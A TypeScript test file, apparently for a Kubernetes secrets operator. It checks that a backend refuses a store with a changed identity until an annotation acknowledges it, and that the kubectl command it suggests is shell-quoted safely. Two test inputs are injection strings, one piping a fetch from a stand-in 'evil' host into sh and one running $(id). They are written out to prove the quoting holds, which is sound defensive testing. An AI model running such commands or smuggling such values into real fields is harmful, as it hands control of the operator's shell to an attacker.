import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ACKNOWLEDGE_IDENTITY_ANNOTATION, API_VERSION } from '#src/api/group.ts';
import {
  parseClusterSecretBackend,
  type Backend,
  type ClusterSecretBackend,
} from '#src/api/v1alpha1/cluster-secret-backend.ts';
import { parseSecretBackend } from '#src/api/v1alpha1/secret-backend.ts';
import { UNKNOWN_IDENTITY } from '#src/backends/driver.ts';
import { BACKEND_KINDS } from '#src/backends/kinds.ts';
import { MAX_CONDITION_MESSAGE } from '../conditions.ts';
import { explain } from '#src/errors/explain.ts';
import { changedStore, recordedStore } from './identity.ts';

const SPEC = { address: 'https://bao:8200', mount: 'kv', auth: { token: { secretRef: { name: 'token' } } } };

interface Given {
  readonly recorded?: string | undefined;
  readonly acknowledged?: string;
  /** Changes of the spec since the identity was recorded. */
  readonly spec?: object;
  readonly identityPlace?: string | undefined;
}

function object(kind: Backend['kind'], given: Given): unknown {
  const { recorded, acknowledged, spec = {}, identityPlace = 'https://bao:8200  kv' } = given;
  const annotations = acknowledged === undefined ? {} : { [ACKNOWLEDGE_IDENTITY_ANNOTATION]: acknowledged };
  const place = kind === 'SecretBackend' ? { namespace: 'payments' } : {};
  return {
    apiVersion: API_VERSION,
    kind,
    metadata: { name: 'bao', ...place, uid: 'u', resourceVersion: '1', generation: 2, annotations },
    spec: { type: 'openbao', openbao: { ...SPEC, ...spec } },
    status: recorded === undefined ? {} : { identity: recorded, identityPlace },
  };
}

function aBackend(given: Given): Backend {
  const parsed = parseSecretBackend(object('SecretBackend', given));
  if (!parsed.ok) throw new Error(parsed.problems.join('; '));
  return parsed.value;
}

function aClusterBackend(given: Given): ClusterSecretBackend {
  const parsed = parseClusterSecretBackend(object('ClusterSecretBackend', given));
  if (!parsed.ok) throw new Error(parsed.problems.join('; '));
  return parsed.value;
}

/** The code with which a backend refuses a server of the identity `found`; undefined if it takes it. */
function refusal(given: Given, found = 'new'): string | undefined {
  return changedStore(aBackend(given), { identity: found }, BACKEND_KINDS)?.code;
}

describe('a store with another identity than the recorded one', () => {
  it('is refused until the annotation names exactly this one', () => {
    expect(refusal({ recorded: 'old' })).toBe('BACKEND_IDENTITY_CHANGED');
    expect(refusal({ recorded: 'old', acknowledged: 'third' })).toBe('BACKEND_IDENTITY_CHANGED');
    expect(refusal({ recorded: 'old', acknowledged: '' })).toBe('BACKEND_IDENTITY_CHANGED');
    expect(refusal({ recorded: 'old', acknowledged: 'new' })).toBeUndefined();
    expect(refusal({ recorded: 'new' })).toBeUndefined();
  });

  it('is refused again when the earlier one comes back, unless that is acknowledged', () => {
    expect(refusal({ recorded: 'new', acknowledged: 'new' }, 'old')).toBe('BACKEND_IDENTITY_CHANGED');
  });

  it('is the first one if the status has none: a lost status locks nobody out', () => {
    expect(refusal({})).toBeUndefined();
  });

  it.each([
    ['mount', { mount: 'other' }],
    ['namespace', { namespace: 'team' }],
    ['address', { address: 'https://other:8200' }],
  ])('is meant where the spec names another %s since', (_field, spec) => {
    expect(refusal({ recorded: 'old', spec })).toBeUndefined();
  });

  it.each([
    ['pathPrefix', { pathPrefix: 'team' }],
    ['requestTimeoutSeconds', { requestTimeoutSeconds: 5 }],
    ['auth', { auth: { token: { secretRef: { name: 'other' } } } }],
    ['a slash at the end of the address', { address: 'https://bao:8200/' }],
  ])('is refused although %s changed: that leads to no other store', (_field, spec) => {
    expect(refusal({ recorded: 'old', spec })).toBe('BACKEND_IDENTITY_CHANGED');
  });

  it('is not told from one whose identity cannot be read, which the record survives', () => {
    expect(refusal({ recorded: 'old' }, UNKNOWN_IDENTITY)).toBeUndefined();
    expect(refusal({ recorded: UNKNOWN_IDENTITY })).toBeUndefined();
    const recorded = recordedStore(
      aBackend({ recorded: 'old' }),
      { identity: UNKNOWN_IDENTITY },
      BACKEND_KINDS,
    );
    expect(recorded).toEqual({ identity: 'old', identityPlace: 'https://bao:8200  kv' });
  });
});

describe('the message about another store', () => {
  it('has both identities and the command that acknowledges the new one', () => {
    const backends = [aBackend({ recorded: 'old' }), aClusterBackend({ recorded: 'old' })];
    const said = backends.map((backend) =>
      explain(changedStore(backend, { identity: 'n/1' }, BACKEND_KINDS)),
    );
    expect(said).toEqual([
      "The backend leads to another store than before: it was replaced, restored or made again. Its identity was old, and n/1 answers now (SecretBackend payments/bao). Nothing is read or written there. If that store is intended, run: kubectl annotate secretbackend bao -n payments keyferry.io/acknowledge-identity='n/1' --overwrite.",
      "The backend leads to another store than before: it was replaced, restored or made again. Its identity was old, and n/1 answers now (ClusterSecretBackend bao). Nothing is read or written there. If that store is intended, run: kubectl annotate clustersecretbackend bao keyferry.io/acknowledge-identity='n/1' --overwrite.",
    ]);
  });

  it('has a command that a shell takes as one text, and that works, whatever the server says it is', () => {
    const check = (identity: string): void => {
      const backend = aBackend({ recorded: 'old' });
      const refused = changedStore(backend, { identity }, BACKEND_KINDS);
      if (refused === undefined) return;
      const said = explain(refused, MAX_CONDITION_MESSAGE);
      const [, quoted = ''] = /acknowledge-identity=('.*') --overwrite\.$/.exec(said) ?? [];
      const parts = quoted.slice(1, -1).split(String.raw`'\''`);
      expect(parts.filter((part) => part.includes("'"))).toEqual([]);
      const acknowledged = parts.join("'");
      expect(refusal({ recorded: 'old', acknowledged }, identity)).toBeUndefined();
    };
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), check), { numRuns: 30 });
    check("x'; curl evil | sh; '");
    check(`${'x'.repeat(600)}'\n$(id)`);
  });
});
